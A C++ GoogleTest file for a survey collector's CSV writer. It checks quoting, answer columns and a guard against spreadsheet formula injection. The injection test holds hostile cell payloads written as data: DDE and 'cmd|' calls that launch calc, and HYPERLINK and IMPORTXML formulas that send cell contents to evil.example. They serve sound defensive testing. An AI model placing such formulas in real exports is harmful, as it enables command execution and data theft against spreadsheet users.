#include "../csv.h"

#include <gtest/gtest.h>

namespace looplet::collector {
namespace {

std::string cell(std::string_view text, bool guard = true) {
  std::string out;
  append_cell(out, text, guard);
  return out;
}

// Undoes RFC 4180, to look at what a spreadsheet sees.
std::string seen(std::string text) {
  if (text.empty() || text.front() != '"') return text;
  std::string out;
  for (std::size_t i = 1; i + 1 < text.size(); ++i) {
    if (text[i] == '"') ++i;
    out += text[i];
  }
  return out;
}

TEST(Csv, PlainTextStaysAsItIs) {
  for (const char* text : {"", "fine", "7", "a-b", "5 + 3", "x=1", "me@home",
                           "\xC3\xA9t\xC3\xA9", "'", "0", "n/a", "100%"}) {
    EXPECT_EQ(cell(text), text);
  }
}

TEST(Csv, QuotesWhatNeedsQuotes) {
  EXPECT_EQ(cell("a,b"), "\"a,b\"");
  EXPECT_EQ(cell("say \"hi\""), "\"say \"\"hi\"\"\"");
  EXPECT_EQ(cell("two\nlines"), "\"two\nlines\"");
  EXPECT_EQ(cell("a;b"), "\"a;b\"");  // a separator to some spreadsheets
  EXPECT_EQ(cell(" padded "), "\" padded \"");
}

TEST(Csv, NoCellStartsAFormula) {
  // What each of the dangerous starts is followed by in the wild.
  const char* const kBodies[] = {
      "1+1",
      "cmd|' /C calc'!A0",
      "HYPERLINK(\"http://evil.example\",\"x\")",
      "SUM(A1:A9)",
      "IMPORTXML(CONCAT(\"http://evil.example/\",A1),\"//a\")",
      "DDE(\"cmd\",\"/C calc\",\"x\")",
  };
  const char* const kStarts[] = {"=",
                                 "+",
                                 "-",
                                 "@",
                                 "\t=",
                                 "\r=",
                                 "\n=",
                                 " =",
                                 "   @",
                                 "\xEF\xBC\x9D",
                                 "\xEF\xBC\x8B",
                                 "\xEF\xBC\x8D",
                                 "\xEF\xBC\xA0"};
  int count = 0;
  for (const char* start : kStarts) {
    for (const char* body : kBodies) {
      const std::string hostile = std::string(start) + body;
      EXPECT_EQ(seen(cell(hostile)), "'" + hostile);
      EXPECT_EQ(seen(cell(hostile, false)), hostile);
      ++count;
    }
  }
  EXPECT_GE(count, 60);
}

Row row_of(std::string_view record) {
  Row row{};
  row.number = 1;
  row.id = "id";
  row.survey = "demo";
  row.locale = "en";
  row.segment = "promoter";
  row.themes = R"(["billing","staff"])";
  row.revision = 3;
  row.score = 9;
  row.sentiment = -1;
  row.complete = true;
  row.answered_at = "2026-11-22T07:40:00.000Z";
  row.received_at = "2026-11-22T07:41:00.000Z";
  row.page = "/a";
  row.record = record;
  return row;
}

constexpr std::string_view kFixed =
    "id,demo,3,en,9,promoter,\"billing; staff\",-1,1,2026-11-22T07:40:00.000Z,"
    "2026-11-22T07:41:00.000Z,/a";

TEST(Csv, ALineHasAColumnForEachStep) {
  const std::string line = csv_line(
      row_of(R"({"answers":[{"step":"score","value":9},)"
             R"({"step":"many","value":["a","b"]},)"
             R"({"step":"other","value":{"options":["a"],"other":"mine"}},)"
             R"({"step":"who","value":{"name":"Ann","consent":true}},)"
             R"({"step":"skipped","value":null}]})"),
      {"score", "many", "other", "who", "skipped", "never"}, true);
  EXPECT_EQ(line, std::string(kFixed) +
                      ",9,\"a; b\",\"a; mine\",\"name=Ann; consent=true\",,"
                      "\r\n");
}

TEST(Csv, TheHeaderIsGuardedToo) {
  const std::string header = csv_header({"=1+1", "plain"}, true);
  EXPECT_EQ(header,
            "id,survey,revision,locale,score,segment,themes,sentiment,"
            "complete,answered_at,received_at,page,'=1+1,plain\r\n");
}

TEST(Csv, NumbersOfOursAreNumbers) {
  EXPECT_EQ(
      csv_line(row_of(R"({"answers":[{"step":"n","value":-3}]})"), {"n"}, true),
      std::string(kFixed) + ",-3\r\n");
}

TEST(Csv, ARecordThatIsDamagedIsALineWithoutAnswers) {
  for (const char* record : {"", "[]", "{", "{}", "{\"answers\":7}"}) {
    EXPECT_EQ(csv_line(row_of(record), {"a"}, true),
              std::string(kFixed) + ",\r\n")
        << record;
  }
}

}  // namespace
}  // namespace looplet::collector
